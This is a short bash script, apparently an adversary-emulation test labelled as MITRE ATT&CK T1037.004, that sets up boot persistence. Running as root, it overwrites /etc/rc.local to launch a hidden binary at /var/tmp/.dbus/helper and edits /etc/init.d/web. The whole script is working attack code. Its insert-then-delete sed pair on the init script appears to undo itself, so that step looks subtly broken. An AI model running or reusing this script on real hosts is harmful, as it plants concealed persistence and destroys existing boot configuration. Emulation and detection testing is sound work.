#!/bin/bash
# technique: T1037.004 Boot or Logon Initialization Scripts: RC Scripts
# tactic: persistence
# user: root
# does: adds a hidden program to what starts at boot
# harmless: the sandbox never boots

printf '#!/bin/sh\n/var/tmp/.dbus/helper &\nexit 0\n' >/etc/rc.local
chmod +x /etc/rc.local
sed -i '2i /var/tmp/.dbus/helper \&' /etc/init.d/web
sed -i '2d' /etc/init.d/web
